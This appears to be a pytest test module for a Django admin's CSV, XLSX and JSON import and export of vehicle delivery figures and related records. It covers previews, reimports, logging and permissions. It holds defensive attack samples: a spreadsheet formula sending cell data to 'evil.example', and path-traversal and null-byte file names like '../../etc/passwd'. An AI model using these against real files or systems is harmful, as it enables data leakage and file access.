"""A clerk receives a spreadsheet of monthly figures (or model line-ups, deals,
memberships, sources) and imports it in the admin: a preview says which rows will be
created, updated or left unchanged and why any row is refused; the import is all or
nothing, enters the change log as an import by the clerk from that file, and importing
the same file again changes nothing. An export has the same columns."""

import csv
import datetime
import io
import json

import pytest
from django.apps import apps
from django.contrib.auth.models import Group, User
from django.urls import NoReverseMatch, reverse
from openpyxl import Workbook, load_workbook

from catalog.models import ChangeRecord, Source
from tests.conftest import deleted_meanwhile
from vehicles.models import (
    AllianceMembership,
    Delivery,
    Partnership,
    VehicleModel,
    VehicleModelChip,
)

CSV, XLSX, JSON = "0", "1", "2"  # the admin's format choices, in catalog.resources.FORMATS


@pytest.fixture
def clerk(db):
    user = User.objects.create_user(username="clerk", password="pw-for-tests", is_staff=True)
    user.groups.add(Group.objects.get(name="delivery clerk"))
    return User.objects.get(pk=user.pk)


@pytest.fixture
def clerk_client(client, clerk):
    client.force_login(clerk)
    return client


def upload(name, content):
    data = content.encode() if isinstance(content, str) else content
    upload = io.BytesIO(data)
    upload.name = name
    return upload


def preview(client, model, name, content, file_format=CSV):
    """Upload a file on the model's import page; the dry run's result."""
    url = reverse(f"admin:vehicles_{model}_import")
    response = client.post(url, {"import_file": upload(name, content), "format": file_format})
    assert response.status_code == 200
    return response


def totals(response):
    result = response.context["result"]
    return {kind: count for kind, count in result.totals.items() if count}


def invalid_rows(response):
    return [(row.number, row.error_dict) for row in response.context["result"].invalid_rows]


def confirm(client, model, response):
    form = response.context["confirm_form"]
    url = reverse(f"admin:vehicles_{model}_process_import")
    return client.post(url, {name: form.initial[name] for name in form.fields})


NOVEMBER = """slug,alliance,brand,month,units,precision,computed,note,sources
,hima,,2025-09,52916,exact,false,,test-source
,鸿蒙智行,问界,2025-10,43000,approximate,false,as reported by the brand,test-source
,Harmony Intelligent Mobility Alliance,luxeed,2025-10,12000,exact,false,,
"""


def test_a_clerk_previews_imports_and_reimports_a_month_table(world, clerk_client, clerk):
    before = Delivery.objects.count()
    response = preview(clerk_client, "delivery", "hima-2025-q3.csv", NOVEMBER)
    assert totals(response) == {"new": 3}
    assert Delivery.objects.count() == before  # a preview writes nothing

    assert confirm(clerk_client, "delivery", response).status_code == 302
    stored = {
        d.slug: (d.alliance.slug, d.brand.slug if d.brand else None, d.month, d.units, d.precision)
        for d in Delivery.objects.filter(month__in=["2025-09-01", "2025-10-01"])
    }
    assert stored == {
        "hima-2025-09": ("hima", None, datetime.date(2025, 9, 1), 52916, "exact"),
        "hima-aito-2025-10": ("hima", "aito", datetime.date(2025, 10, 1), 43000, "approximate"),
        "hima-luxeed-2025-10": ("hima", "luxeed", datetime.date(2025, 10, 1), 12000, "exact"),
        "hima-2025-10": ("hima", None, datetime.date(2025, 10, 1), 68216, "exact"),
    }
    assert list(Delivery.objects.get(slug="hima-2025-09").sources.all()) == [world.src]
    records = ChangeRecord.objects.filter(channel="import").order_by("object_slug")
    assert [(r.object_slug, r.action, r.actor, r.note) for r in records] == [
        ("hima-2025-09", "created", clerk, "hima-2025-q3.csv"),
        ("hima-aito-2025-10", "created", clerk, "hima-2025-q3.csv"),
        ("hima-luxeed-2025-10", "created", clerk, "hima-2025-q3.csv"),
    ]

    again = preview(clerk_client, "delivery", "hima-2025-q3.csv", NOVEMBER)
    assert totals(again) == {"skip": 3}
    confirm(clerk_client, "delivery", again)
    assert ChangeRecord.objects.filter(channel="import").count() == 3
    assert Delivery.objects.count() == before + 3


def test_a_changed_figure_is_an_update_and_logged_as_such(world, clerk_client):
    table = "slug,alliance,month,units,precision\nhima-2025-11,hima,2025-11,81900,exact\n"
    response = preview(clerk_client, "delivery", "correction.csv", table)
    assert totals(response) == {"update": 1}
    confirm(clerk_client, "delivery", response)
    assert Delivery.objects.get(slug="hima-2025-11").units == 81900
    record = ChangeRecord.objects.get(channel="import")
    assert (record.action, record.changed_fields, record.note) == (
        "changed",
        ["units"],
        "correction.csv",
    )


BAD = """alliance,brand,month,units,precision,sources
hima,,2025-09,52916,exact,test-source
hima,,2099-01,1,exact,
hima,tesla,2025-08,5,exact,
hima,,2025-9,5,exact,
hima,,2025-07,-3,exact,nowhere
"""


def test_the_preview_names_each_bad_row_and_nothing_is_imported(world, clerk_client):
    before = Delivery.objects.count()
    response = preview(clerk_client, "delivery", "bad.csv", BAD)
    assert invalid_rows(response) == [
        (2, {"month": ["A delivery month cannot be in the future."]}),
        (3, {"brand": ["No brand 'tesla': give its slug or its English or Chinese name."]}),
        (4, {"month": ["Give a month as YYYY-MM, e.g. 2025-11."]}),
        (
            5,
            {
                "units": ["Ensure this value is greater than or equal to 0."],
                "sources": ["No sources with the slugs nowhere."],
            },
        ),
    ]
    assert "confirm_form" not in response.context
    assert Delivery.objects.count() == before


def test_a_clerk_fixes_the_bad_row_and_imports(world, clerk_client):
    fixed = "alliance,brand,month,units\nhima,,2025-09,52916\nhima,,2025-08,44373\n"
    response = preview(clerk_client, "delivery", "fixed.csv", fixed)
    assert totals(response) == {"new": 2}
    confirm(clerk_client, "delivery", response)
    assert Delivery.objects.get(slug="hima-2025-08").units == 44373


def test_two_rows_of_one_file_for_the_same_month_are_refused(world, clerk_client):
    table = "alliance,month,units\nhima,2025-09,1\nhima,2025-09,2\n"
    response = preview(clerk_client, "delivery", "twice.csv", table)
    assert invalid_rows(response) == [
        (2, {"slug": ["Row 1 of this file is already about hima-2025-09."]})
    ]


def test_a_name_that_fits_two_rows_asks_for_the_slug(world, clerk_client):
    from vehicles.models import Brand

    Brand.objects.create(slug="aito-2", name="AITO Two", name_zh="问界", group=world.seres)
    response = preview(clerk_client, "delivery", "x.csv", "brand,month,units\n问界,2025-09,1\n")
    assert invalid_rows(response) == [
        (1, {"brand": ["'问界' names more than one brand: give its slug."]})
    ]


def export(client, model, file_format=CSV):
    url = reverse(f"admin:vehicles_{model}_export")
    page = client.get(url)
    form = page.context["form"]
    chosen = {name: "on" for name in form.fields if name.startswith(f"{model}resource_")}
    response = client.post(url, {"format": file_format, "resource": "0", **chosen})
    assert response.status_code == 200, response.content[:500]
    return response.content


def test_an_export_reimports_unchanged(world, admin_client):
    table = export(admin_client, "delivery").decode()
    header, *rows = table.strip().splitlines()
    assert header == "slug,alliance,brand,month,units,precision,computed,note,sources"
    assert "hima-2025-11,hima,,2025-11,81864,exact,0,,test-source" in rows
    response = preview(admin_client, "delivery", "export.csv", table)
    assert totals(response) == {"skip": Delivery.objects.count()}


def exportable(model):
    try:
        return bool(reverse(f"admin:vehicles_{model}_export"))
    except NoReverseMatch:
        return False


ROUND_TRIPS = [
    model._meta.model_name
    for model in apps.get_app_config("vehicles").get_models()
    if exportable(model._meta.model_name)
]


@pytest.mark.parametrize("file_format", [CSV, XLSX])
@pytest.mark.parametrize("model_name", ROUND_TRIPS)
def test_every_export_reimports_unchanged_and_keeps_every_link(
    world, admin_client, model_name, file_format
):
    """An export is for a round trip: imported again as it is, nothing changes. The
    vehicle models' chips column was written empty, and importing it back deleted every
    chip fitting (with its citations) while the preview showed nothing different."""
    model = apps.get_model("vehicles", model_name)
    exported = export(admin_client, model_name, file_format)
    fittings = list(VehicleModelChip.objects.values_list("vehicle_model", "chip", "role"))
    name = "export.xlsx" if file_format == XLSX else "export.csv"
    response = preview(admin_client, model_name, name, exported, file_format=file_format)
    assert totals(response) == {"skip": model.objects.count()}
    confirm(admin_client, model_name, response)
    assert list(VehicleModelChip.objects.values_list("vehicle_model", "chip", "role")) == fittings
    if model_name == "vehiclemodel" and file_format == CSV:
        assert fittings
        header, *rows = list(csv.reader(io.StringIO(exported.decode())))
        column = header.index("chips")
        assert sum(1 for row in rows if row[column]) == len({f[0] for f in fittings})


def xlsx(rows):
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    data = io.BytesIO()
    book.save(data)
    return data.getvalue()


def test_an_editor_imports_vehicle_models_with_their_stack_and_chips_from_xlsx(world, admin_client):
    content = xlsx(
        [
            ["brand", "name", "powertrain", "launched_on", "cockpit_os", "adas_stack", "chips"],
            [
                "问界",
                "M9",
                "erev",
                "2023-12-26",
                "鸿蒙座舱",
                "huawei-ads-4",
                "orin-x:adas:2; Kirin 990A:cockpit",
            ],
        ]
    )
    response = preview(admin_client, "vehiclemodel", "line-up.xlsx", content, XLSX)
    assert totals(response) == {"new": 1}
    confirm(admin_client, "vehiclemodel", response)
    m9 = VehicleModel.objects.get(slug="aito-m9")
    assert (m9.launched_on, m9.cockpit_os, m9.adas_stack) == (
        datetime.date(2023, 12, 26),
        world.harmony,
        world.ads,
    )
    assert sorted((f.chip.slug, f.role, f.quantity) for f in m9.chip_fittings.all()) == [
        ("kirin-990a", "cockpit", None),
        ("orin-x", "adas", 2),
    ]
    record = ChangeRecord.objects.get(channel="import", object_slug="aito-m9")
    assert "chips" in record.changed_fields
    again = preview(admin_client, "vehiclemodel", "line-up.xlsx", content, XLSX)
    assert totals(again) == {"skip": 1}


def test_a_line_up_giving_chips_and_why_they_are_unknown_is_refused(world, admin_client):
    content = xlsx(
        [
            ["brand", "name", "powertrain", "chips", "chips_unknown"],
            ["问界", "M9", "erev", "orin-x:adas:2", "Not published."],
        ]
    )
    response = preview(admin_client, "vehiclemodel", "line-up.xlsx", content, XLSX)
    assert invalid_rows(response) == [
        (1, {"chips": ["Give the chips or the reason they are unknown, not both."]})
    ]
    assert not VehicleModel.objects.filter(slug="aito-m9").exists()


def test_partnerships_and_memberships_come_from_json(world, admin_client):
    deal = dict.fromkeys(["brand", "carmaker", "partner", "kind", "started_on", "sources"], "")
    deals = [
        {
            **deal,
            "brand": "luxeed",
            "partner": "huawei",
            "kind": "adas",
            "started_on": "2023-11-28",
        },
        {
            **deal,
            "carmaker": "奇瑞",
            "partner": "qualcomm",
            "kind": "chip",
            "sources": "test-source",
        },
    ]
    response = preview(admin_client, "partnership", "deals.json", json.dumps(deals), JSON)
    assert totals(response) == {"new": 2}
    confirm(admin_client, "partnership", response)
    assert sorted(Partnership.objects.values_list("slug", flat=True)) == [
        "aito-huawei-ads",
        "chery-qualcomm-chip",
        "geely-china-mobile",
        "luxeed-huawei-adas",
        "lynk-co-nvidia",
    ]
    members = [{"alliance": "hima", "brand": "lynk-co", "joined_on": "2024-05-01"}]
    response = preview(admin_client, "alliancemembership", "m.json", json.dumps(members), JSON)
    confirm(admin_client, "alliancemembership", response)
    assert AllianceMembership.objects.get(slug="hima-lynk-co").joined_on == datetime.date(
        2024, 5, 1
    )


def test_sources_are_imported_too(world, admin_client):
    table = (
        "slug,title,publisher,url,published_on,reliability\n"
        "seres-2025,Seres annual report,Seres,https://example.org/seres,2025-03-28,official\n"
    )
    url = reverse("admin:catalog_source_import")
    response = admin_client.post(url, {"import_file": upload("s.csv", table), "format": CSV})
    assert totals(response) == {"new": 1}
    form = response.context["confirm_form"]
    admin_client.post(
        reverse("admin:catalog_source_process_import"),
        {name: form.initial[name] for name in form.fields},
    )
    assert Source.objects.get(slug="seres-2025").published_on == datetime.date(2025, 3, 28)


def test_a_clerk_cannot_import_brand_side_facts_beyond_figures(world, clerk_client):
    assert clerk_client.get(reverse("admin:vehicles_vehiclemodel_import")).status_code == 403


def test_a_confirmation_sent_twice_imports_once_and_says_why_not_again(world, clerk_client):
    response = preview(clerk_client, "delivery", "hima-2025-q3.csv", NOVEMBER)
    done = clerk_client.get(confirm(clerk_client, "delivery", response)["Location"])
    assert [str(message) for message in done.context["messages"]] == [
        "Import finished: 3 new, 0 updated, 0 deleted and 0 skipped deliveries."
    ]
    imported = Delivery.objects.count()
    again = confirm(clerk_client, "delivery", response)  # the browser's back button, resent
    assert again.status_code == 302
    assert again["Location"] == reverse("admin:vehicles_delivery_import")
    page = clerk_client.get(again["Location"])
    assert [str(message) for message in page.context["messages"]] == [
        "Nothing was imported: The uploaded file is no longer kept (it was imported "
        "already). Upload the file again."
    ]
    assert Delivery.objects.count() == imported


@pytest.mark.parametrize(
    ("field", "value", "problem"),
    [
        ("import_file_name", "../../etc/passwd", "The uploaded file is no longer kept"),
        ("import_file_name", "tmp%00abcdef", "The uploaded file is no longer kept"),
        ("format", "x", "Unknown format 'x'."),
        ("format", "99999999999999999999", "Unknown format '99999999999999999999'."),
        ("format", "-1", "Unknown format '-1'."),
        ("resource", "7", "Unknown resource '7'."),
        # A format there is, not the one previewed (the CSV was read as JSON: a 500).
        ("format", JSON, "this confirmation is not of a file previewed on this page"),
        ("format", XLSX, "this confirmation is not of a file previewed on this page"),
    ],
)
def test_a_tampered_confirmation_imports_nothing_and_names_the_field(
    world, clerk_client, field, value, problem
):
    response = preview(clerk_client, "delivery", "hima-2025-q3.csv", NOVEMBER)
    form = response.context["confirm_form"]
    before = Delivery.objects.count()
    tampered = clerk_client.post(
        reverse("admin:vehicles_delivery_process_import"),
        {**{name: form.initial[name] for name in form.fields}, field: value},
        follow=True,
    )
    assert tampered.redirect_chain == [(reverse("admin:vehicles_delivery_import"), 302)]
    (message,) = [str(message) for message in tampered.context["messages"]]
    assert message.startswith(f"Nothing was imported: {problem}")
    assert Delivery.objects.count() == before


@pytest.mark.django_db(transaction=True)
def test_a_figure_deleted_while_its_correction_is_imported_is_made_anew(
    world, clerk_client, on_postgres
):
    """A clerk confirms a correction while someone deletes that figure: the import waits
    for the deletion, then makes the figure again from the file (logged as created), not
    'changed' on a row that is gone."""
    table = "slug,alliance,month,units,precision\nhima-2025-11,hima,2025-11,81900,exact\n"
    response = preview(clerk_client, "delivery", "correction.csv", table)
    assert totals(response) == {"update": 1}
    figure = Delivery.objects.get(slug="hima-2025-11")
    with deleted_meanwhile(figure):
        assert confirm(clerk_client, "delivery", response).status_code == 302
    again = Delivery.objects.get(slug="hima-2025-11")
    assert (again.units, again.pk != figure.pk) == (81900, True)
    record = ChangeRecord.objects.get(channel="import")
    assert (record.action, record.note) == ("created", "correction.csv")


def test_an_export_quotes_a_cell_a_spreadsheet_would_run_and_reimports_it_as_it_was(
    world, admin_client
):
    """A note stored as `=HYPERLINK(...)` was written to the CSV raw and to the XLSX as a
    formula: it ran when the file was opened. It is quoted as in the API's CSV, and the
    quote is taken off again on import, so the round trip changes nothing."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    Delivery.objects.filter(slug="hima-2025-11").update(note=formula)
    table = export(admin_client, "delivery").decode()
    assert "'=HYPERLINK" in table
    book = load_workbook(io.BytesIO(export(admin_client, "delivery", XLSX)))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    response = preview(admin_client, "delivery", "export.csv", table)
    assert totals(response) == {"skip": Delivery.objects.count()}
    confirm(admin_client, "delivery", response)
    assert Delivery.objects.get(slug="hima-2025-11").note == formula


def test_a_user_who_may_only_add_cannot_import_over_stored_figures(world, client):
    """An import changes the stored rows its file names: it takes the permission to
    change as well as to add (a user with add alone overwrote a stored figure)."""
    from django.contrib.auth.models import Permission

    user = User.objects.create_user("adder", password="x", is_staff=True)
    user.user_permissions.add(
        *Permission.objects.filter(codename__in=["add_delivery", "view_delivery"])
    )
    client.force_login(user)
    url = reverse("admin:vehicles_delivery_import")
    table = "slug,alliance,brand,month,units\nhima-2025-11,hima,,2025-11,1\n"
    assert client.get(url).status_code == 403
    assert (
        client.post(url, {"import_file": upload("x.csv", table), "format": CSV}).status_code == 403
    )
    assert Delivery.objects.get(slug="hima-2025-11").units == 81864


def test_a_confirmation_sent_to_another_models_page_imports_nothing_there_or_later(
    world, clerk_client
):
    """Confirmed on the totals' page, a deliveries preview was 'imported' there (nothing
    new) and its upload thrown away; it is refused there, and still confirms where it
    was previewed."""
    response = preview(clerk_client, "delivery", "hima-2025-q3.csv", NOVEMBER)
    form = response.context["confirm_form"]
    wrong = clerk_client.post(
        reverse("admin:vehicles_deliverytotal_process_import"),
        {name: form.initial[name] for name in form.fields},
        follow=True,
    )
    (message,) = [str(message) for message in wrong.context["messages"]]
    assert message.startswith("Nothing was imported: this confirmation is not of a file")
    before = Delivery.objects.count()
    confirm(clerk_client, "delivery", response)
    assert Delivery.objects.count() == before + totals(response)["new"]


@pytest.mark.parametrize(
    ("units", "why"),
    [
        ("12.9", "Enter a whole number in ASCII digits"),
        ("\uff11\uff12", "Enter a whole number in ASCII digits"),
        ("abc", "Enter a whole number in ASCII digits"),
        ("1,000", "Enter a whole number in ASCII digits"),
        ("Infinity", "Enter a whole number in ASCII digits"),
        ("1e400", "Enter a whole number in ASCII digits"),
    ],
)
def test_a_number_cell_is_read_as_the_api_reads_one(world, clerk_client, units, why):
    """12.9 was stored as 12 and full-width digits read as ASCII ones; 'abc' showed a
    traceback on the preview. Each is the row's error, in words."""
    table = f'alliance,month,units\nhima,2025-09,"{units}"\n'
    response = preview(clerk_client, "delivery", "x.csv", table)
    ((line, errors),) = invalid_rows(response)
    assert line == 1
    (message,) = errors["units"]
    assert message == f"{units!r}: {why}, e.g. 2021 (no sign, spaces or separators)."


def test_a_spreadsheets_own_whole_number_is_read_as_one(world, clerk_client):
    content = xlsx([["alliance", "month", "units"], ["hima", "2025-09", 52916.0]])
    response = preview(clerk_client, "delivery", "x.xlsx", content, file_format=XLSX)
    assert totals(response) == {"new": 1}
